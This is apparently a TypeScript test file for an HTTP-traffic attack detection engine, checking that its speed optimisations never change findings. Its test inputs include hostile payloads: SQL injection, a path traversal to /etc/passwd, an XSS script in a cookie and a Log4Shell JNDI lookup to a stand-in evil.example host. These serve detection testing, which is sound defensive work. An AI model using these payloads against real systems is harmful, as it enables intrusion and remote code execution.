/**
 * The engine's speed machinery must never change a finding: rules skipped by method/status
 * dispatch could not have matched, and targets and spec answers shared across exchanges (bounded
 * memos) give each exchange exactly what computing them afresh would.
 */
import { describe, expect, it } from 'vitest';
import { createEngine, detectExchanges } from '../../../src/core/detect/engine.ts';
import { builtinPack } from '../../../src/core/detect/pack.ts';
import { gateVerdict, mayHold } from '../../../src/core/detect/predicates.ts';
import { compileSpec, matchSpec } from '../../../src/core/detect/spec.ts';
import type { RuleTrace } from '../../../src/core/detect/types.ts';
import { generateTraffic, toStored, type CompactExchange } from './generator.ts';

const pack = builtinPack();

describe('method/status dispatch', () => {
  it('decides a predicate from method and status only where those decide it', () => {
    const login = { all: [{ field: 'method', in: ['POST', 'PUT'] }, { field: 'username', exists: true }, { field: 'status', in: [401, 403] }] };
    expect(gateVerdict(login, 'GET', 401)).toBe(false);
    expect(gateVerdict(login, 'POST', 200)).toBe(false);
    expect(gateVerdict(login, 'post', 401)).toBeNull(); // username still decides (methods compare case-insensitively)
    expect(gateVerdict({ not: { field: 'status', lt: 400 } }, 'GET', 404)).toBe(true);
    expect(gateVerdict({ not: { field: 'path', regex: 'x' } }, 'GET', 404)).toBeNull();
    expect(gateVerdict({ any: [{ field: 'status', equals: 500 }, { signature: 'sqli' }] }, 'GET', 200)).toBeNull();
    expect(gateVerdict({ any: [{ field: 'status', equals: 500 }, { field: 'method', equals: 'DELETE' }] }, 'GET', 200)).toBe(false);
    expect(gateVerdict({ field: 'status', gte: 200 }, 'GET', null)).toBe(false);
    expect(mayHold(null, 'GET', null)).toBe(true);
  });

  it('skips only rules that would not have matched: explain (which runs every rule) agrees', () => {
    const g = generateTraffic({ seed: 7, users: 10, durationMs: 3600_000, incidents: true });
    // For a sample of exchanges, every rule the dispatch table would skip reports no match when run.
    const sample = g.exchanges.filter((_, i) => i % 97 === 0);
    for (const target of sample) {
      const traces: RuleTrace[] = [];
      const engine = createEngine(pack, { spec: g.spec, trace: { exchangeId: target.id, onTrace: (t) => traces.push(t) } });
      engine.push(target);
      for (const r of pack.rules) {
        const filter = r.kind === 'match' ? r.match : r.kind === 'window' ? r.filter : null;
        if (r.kind === 'behaviour' || mayHold(filter, target.method, target.status)) continue;
        const t = traces.find((x) => x.rule === r.id)!;
        expect(t.matched, `${r.id} on ${target.method} ${target.status}`).toBe(false);
        if (r.kind === 'window') expect(t.lookedAt).toBe(false);
      }
    }
  });
});

describe('window key states', () => {
  // Distinct paths per actor within a minute; a key's state is dropped once idle and then reused.
  const rule = {
    id: 't.burst', kind: 'window' as const, category: 'scanner' as const, severity: 'medium' as const, confidence: 0.8, title: 'burst', evidence: '{distinct}',
    enabled: true, source: 'test', filter: null, key: ['actor' as const], windowMs: 60_000, bucket: null, distinctOf: 'path', distinctOf2: null, ratioOf: null, threshold: { distinct: 4 },
  };
  const at = (s: number, ip: string, path: string, id: number) => toStored({ time: Date.UTC(2026, 0, 1) + s * 1000, ip, url: `https://a.example${path}` }, id);

  it('start empty when reused: an idle actor\'s requests never count for the next one', () => {
    const list = [at(0, '198.51.100.1', '/a', 1), at(1, '198.51.100.1', '/b', 2), at(2, '198.51.100.1', '/c', 3)];
    // Keep the traffic clock moving (sweeps) until the first actor's state is dropped, with other actors.
    let id = 4;
    for (let s = 10; s <= 300; s += 10) list.push(at(s, `198.51.100.${100 + (s % 7)}`, '/x', id++));
    // A new actor with three distinct paths: under the threshold of four, whatever state it reuses.
    for (const [s, p] of [[301, '/d'], [302, '/e'], [303, '/f']] as const) list.push(at(s, '198.51.100.2', p, id++));
    // The first actor again, with one path: its old window has long expired.
    list.push(at(304, '198.51.100.1', '/g', id++));
    const findings = detectExchanges(list, { name: 't', rules: [rule] });
    expect(findings).toEqual([]);
    // Four distinct paths within the window still fire, on a reused state too.
    list.push(at(305, '198.51.100.2', '/h', id));
    const fired = detectExchanges(list, { name: 't', rules: [rule] });
    expect(fired.map((f) => [f.actor.ip, f.requestCount])).toEqual([['198.51.100.2', 4]]);
  });
});

describe('shared per-string work', () => {
  const ex = (c: Partial<CompactExchange> & { url: string }, id: number) => toStored({ time: Date.UTC(2026, 0, 1, 10, 0, id), ip: `203.0.113.${id}`, ...c }, id);

  it('flags every exchange carrying a hostile path or query seen before, from any actor', () => {
    const hostile = [
      ex({ url: 'https://a.example/api/search?q=%27%20OR%20%271%27%3D%271' }, 1),
      ex({ url: 'https://a.example/api/search?q=%27%20OR%20%271%27%3D%271' }, 2),
      ex({ url: 'https://a.example/files/..%2f..%2fetc%2fpasswd' }, 3),
      ex({ url: 'https://a.example/files/..%2f..%2fetc%2fpasswd' }, 4),
      ex({ url: 'https://a.example/api/search?q=lamp' }, 5),
    ];
    const findings = detectExchanges(hostile, pack);
    const flagged = (id: number) => findings.some((f) => f.category === 'injection' && f.requestIds.includes(id));
    expect([1, 2, 3, 4, 5].map(flagged)).toEqual([true, true, true, true, false]);
  });

  it('gives the same findings with cold or warm memos (a run after other traffic equals a fresh one)', () => {
    const a = generateTraffic({ seed: 21, users: 12, durationMs: 3600_000, incidents: true });
    const first = detectExchanges(a.exchanges, pack, { spec: a.spec });
    detectExchanges(generateTraffic({ seed: 22, users: 15, durationMs: 3600_000, incidents: true }).exchanges, pack, { spec: a.spec });
    expect(detectExchanges(a.exchanges, pack, { spec: a.spec })).toEqual(first);
  });

  it('reports a payload in a header, cookie or body however clean the shared path, query and headers are', () => {
    const ua = 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/121.0';
    const list = [
      // Clean exchanges first: their shared path/query/header scans are remembered as hit-free.
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' } }, 1),
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' }, method: 'POST', reqBody: { name: 'lamp' } }, 2),
      // The same shared strings with a payload elsewhere.
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' }, method: 'POST', reqBody: { name: "x' OR '1'='1" } }, 3),
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': '${jndi:ldap://evil.example/a}' } }, 4),
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc', cookie: 'sid=1; pref=<script>alert(1)</script>' } }, 5),
      // And the hostile header again, now from its shared (remembered) list.
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': '${jndi:ldap://evil.example/a}' } }, 6),
      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' } }, 7),
    ];
    const findings = detectExchanges(list, pack);
    const rules = (id: number) => findings.filter((f) => f.requestIds.includes(id) && f.category === 'injection').map((f) => f.rule).sort();
    expect(rules(1)).toEqual([]);
    expect(rules(2)).toEqual([]);
    expect(rules(3)).toEqual(['injection.sqli']);
    expect(rules(4)).toContain('injection.log4j');
    expect(rules(5)).toEqual(['injection.xss']);
    expect(rules(6)).toContain('injection.log4j');
    expect(rules(7)).toEqual([]);
    // Each exchange alone (fresh views, nothing shared from the others) gives the same verdicts.
    for (const e of list) {
      const alone = detectExchanges([e], pack).filter((f) => f.category === 'injection').map((f) => f.rule).sort();
      expect(alone, `exchange ${e.id}`).toEqual(rules(e.id));
    }
  });

  it('answers spec look-ups per method and path, remembered or not', () => {
    const spec = compileSpec({ operations: [{ method: 'GET', pathTemplate: '/users/{id}', deprecated: false }, { method: 'DELETE', pathTemplate: '/users/{id}', deprecated: true }] });
    for (let round = 0; round < 2; round++) {
      expect(matchSpec(spec, 'GET', '/users/7')?.deprecated).toBe(false);
      expect(matchSpec(spec, 'DELETE', '/users/7')?.deprecated).toBe(true);
      expect(matchSpec(spec, 'POST', '/users/7')).toBeNull();
      expect(matchSpec(spec, 'HEAD', '/users/7')?.method).toBe('GET');
    }
  });
});
